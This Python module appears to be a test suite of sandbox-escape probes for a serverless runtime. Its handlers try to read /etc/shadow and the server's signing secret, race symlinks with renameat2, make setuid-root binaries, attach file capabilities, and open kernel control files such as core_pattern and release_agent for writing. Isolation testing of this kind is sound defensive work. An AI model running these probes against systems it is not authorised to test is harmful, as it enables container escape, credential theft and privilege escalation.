"""Files: the host's, other functions', the kernel's; devices; rights that a file would give."""

import ctypes
import os
import stat
import subprocess
import tempfile

from attempt import Refused, collect, first

LIBC = ctypes.CDLL(None, use_errno=True)


def _read(path):
    with open(path, "rb") as file:
        if not file.read(64):
            raise Refused("empty")
    return "read"


def _open_to_write(path):
    """Opened and nothing written: enough to know, and the host stays as it is."""
    os.close(os.open(path, os.O_WRONLY))
    return "could write"


def read_secret(event, context):
    """A file of the host that any user of the host may read."""
    return first([event["secret"], "/proc/1/root" + event["secret"], "/proc/1/cwd/.." + event["secret"]], _read)


def read_shadow(event, context):
    """The host's passwords."""
    return first(["/etc/shadow", "/proc/1/root/etc/shadow"], _read)


def read_data_folder(event, context):
    """The server's database and the secret that signs its links."""
    return first([event["data"] + "/lambent.db", event["data"] + "/secret"], _read)


def list_packages(event, context):
    """Other functions' code in the server's data folder."""
    return first([event["data"] + "/code/packages"], os.listdir)


def write_outside(event, context):
    """Leaves a file where the host would find it."""
    def leave(folder):
        path = f"{folder}/{event['mark']}"
        with open(path, "w") as file:
            file.write("escaped")
        return "left a file in"

    return first([event["drop"], "/proc/1/root" + event["drop"]], leave)


def write_programs(event, context):
    """Replaces a program that others run."""
    return first([event["program"], "/usr/bin/python3", "/proc/self/exe", "/proc/1/exe", "/bin/sh"], _open_to_write)


def write_own_code(event, context):
    """Changes code that other environments of the function run, too."""
    own = os.path.dirname(os.path.abspath(__file__))
    def change(path):
        with open(path, "a"):
            return "could change"
    return first([own + "/lambda_function.py", own + "/new", "/var/runtime/bootstrap.py", "/opt/new"], change)


def link_to_secret(event, context):
    """Names the host's file by a link, for whoever follows it."""
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        os.symlink(event["secret"], f"{folder}/soft")
        return first([f"{folder}/soft", *_hard(event["secret"], folder)], _read)


def _hard(path, folder):
    try:
        os.link(path, f"{folder}/hard")
        return [f"{folder}/hard"]
    except OSError:
        return []


def race_links(event, context):
    """Swaps a folder for a link while somebody resolves a path through it."""
    secret, name = os.path.split(event["secret"])
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        place, aside = f"{folder}/place", f"{folder}/aside"
        os.mkdir(place)
        os.symlink(secret, aside)
        for _ in range(2000):
            # renameat2(RENAME_EXCHANGE)
            LIBC.renameat2(-100, place.encode(), -100, aside.encode(), 2)
            try:
                return _read(f"{place}/{name}")
            except OSError as error:
                last = error
        raise last


def process_one(event, context):
    """The environment, root and descriptors of process 1."""
    def look(path):
        return _read(path) if path.endswith("environ") else os.listdir(path) and "listed"

    return first(["/proc/1/environ", "/proc/1/fd", "/proc/1/root", "/proc/1/cwd"], look)


def kernel_memory(event, context):
    """The kernel's memory, addresses and keys."""
    def look(path):
        with open(path, "rb") as file:
            text = file.read(4096)
        if not text or (b"kallsyms" in path.encode() and not text.split()[0].strip(b"0")):
            raise Refused("empty")
        return f"read {len(text)} bytes of"

    return first(["/proc/kcore", "/proc/kallsyms", "/proc/keys", "/proc/timer_list", "/proc/iomem"], look)


def kernel_settings(event, context):
    """What programs the kernel runs when something crashes or is missing."""
    names = ("kernel/core_pattern", "kernel/hostname", "kernel/modprobe", "vm/overcommit_memory", "kernel/panic",
             "fs/binfmt_misc/register", "net/ipv4/ip_forward", "kernel/ns_last_pid")
    return first([f"/proc/sys/{name}" for name in names], _open_to_write)


def sysrq(event, context):
    """The keys that restart a machine, and other files of /proc that steer it."""
    return first(["/proc/sysrq-trigger", "/proc/irq/default_smp_affinity", "/proc/bus/pci", "/proc/mtrr",
                  "/proc/acpi/wakeup", "/proc/scsi/scsi"], _open_to_write)


def system_folder(event, context):
    """/sys: the helper of events, the release agent of control groups."""
    return first(["/sys/kernel/uevent_helper", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs",
                  "/sys/fs/cgroup/memory/cgroup.procs", "/sys/power/state"], _open_to_write)


def device_files(event, context):
    """The host's devices: memory, disks, the kernel's log, virtual machines, tunnels."""
    def look(path):
        os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK))
        return "opened"

    return first(["/dev/mem", "/dev/kmsg", "/dev/loop-control", "/dev/loop0", "/dev/fuse", "/dev/kvm", "/dev/vda",
                  "/dev/sda", "/dev/net/tun", "/dev/ptmx", "/dev/shm"], look)


def make_device(event, context):
    """A device file of one's own making."""
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        def make(kind):
            os.mknod(f"{folder}/device", kind | 0o666, os.makedev(1, 5 if kind == stat.S_IFCHR else 0))
            os.close(os.open(f"{folder}/device", os.O_RDONLY))
            return "made a device"

        return first([stat.S_IFCHR, stat.S_IFBLK], make)


def setuid_file(event, context):
    """A program that gives root's rights to whoever runs it."""
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        os.chmod(folder, 0o755)
        path = f"{folder}/id"
        with open("/usr/bin/id", "rb") as source, open(path, "wb") as file:
            file.write(source.read())
        refusals = []
        try:
            os.chown(path, 0, 0)
        except OSError as error:
            refusals.append(os.strerror(error.errno))
        os.chmod(path, 0o6755)
        user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []
        shown = subprocess.run([*user, path], capture_output=True, text=True).stdout
        if "euid=0" in shown or "egid=0" in shown:
            return shown.strip()
        raise Refused(f"{', '.join(refusals)}; {shown.split()[0]}")


def host_setuid_program(event, context):
    """The host's own set-user-id programs, as an ordinary user runs them."""
    user = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []
    child = subprocess.Popen([*user, "/usr/bin/su", "-c", "true"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.STDOUT)
    try:
        # It asks for a password before anything else; by then it has what rights it gets.
        child.stdout.read(4)
        with open(f"/proc/{child.pid}/status") as status:
            effective = next(line for line in status if line.startswith("Uid:")).split()[2]
    except (OSError, StopIteration) as error:
        raise Refused("it ended at once") from error
    finally:
        child.kill()
        child.communicate()
    if effective == "0":
        return "root's rights"
    raise Refused(f"runs as user {effective}")


def file_capabilities(event, context):
    """Capabilities attached to a file, and the attribute of trusted programs."""
    with tempfile.NamedTemporaryFile(dir="/tmp") as file:
        # VFS_CAP_REVISION_2, effective; permitted: all of the first 32.
        value = bytes.fromhex("0100000200ffffffffffffff00000000")[:20].ljust(20, b"\0")
        def give(name):
            os.setxattr(file.name, name, value if name == "security.capability" else b"x")
            return "attached"

        return first(["security.capability", "trusted.lambent"], give)


def memory_program(event, context):
    """A program that lies in no file, where nobody has looked at it: whether it has more rights than files have."""
    with open("/usr/bin/python3", "rb") as source:
        program = source.read()
    memory = os.memfd_create("attack", 0)
    os.write(memory, program)
    try:
        script = "import os; os.chroot('/tmp'); print('chroot')"
        done = subprocess.run([f"/proc/self/fd/{memory}", "-c", script], pass_fds=[memory], capture_output=True,
                              text=True)
    finally:
        os.close(memory)
    if "chroot" in done.stdout:
        return "changed its root"
    raise Refused("EPERM" if "PermissionError" in done.stderr else done.stderr[-200:])


def inherited_descriptors(event, context):
    """Descriptors that were left open: folders to climb out of, files and sockets of others."""
    found = {}
    for name in os.listdir("/proc/self/fd"):
        number = int(name)
        try:
            mode = os.fstat(number).st_mode
            target = os.readlink(f"/proc/self/fd/{number}")
        except OSError:
            continue
        if stat.S_ISDIR(mode) and not target.startswith("/proc"):
            try:
                os.close(os.open(event["secret"].lstrip("/"), os.O_RDONLY, dir_fd=number))
                return f"climbed out by descriptor {number}"
            except OSError:
                pass
        if number > 2 and not target.startswith(("/proc/", "anon_inode:", "socket:", "pipe:", "/dev/null", "/var/")):
            found[number] = target
    if found:
        return f"inherited {found}"
    raise Refused("none")


def write_accounting(event, context):
    """Its own control groups, by mounting them where it can."""
    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
        if LIBC.unshare(0x20000) == 0:
            LIBC.mount(None, b"/", None, 0x44000, None)
        refusals = []
        for kind, options in ((b"cgroup2", None), (b"cgroup", b"memory"), (b"proc", None), (b"sysfs", None)):
            if LIBC.mount(b"none", folder.encode(), kind, 0, options) == 0:
                LIBC.umount2(folder.encode(), 2)
                return f"mounted {kind.decode()}"
            refusals.append(os.strerror(ctypes.get_errno()))
        raise Refused(", ".join(dict.fromkeys(refusals)))


ATTACKS = collect(globals())
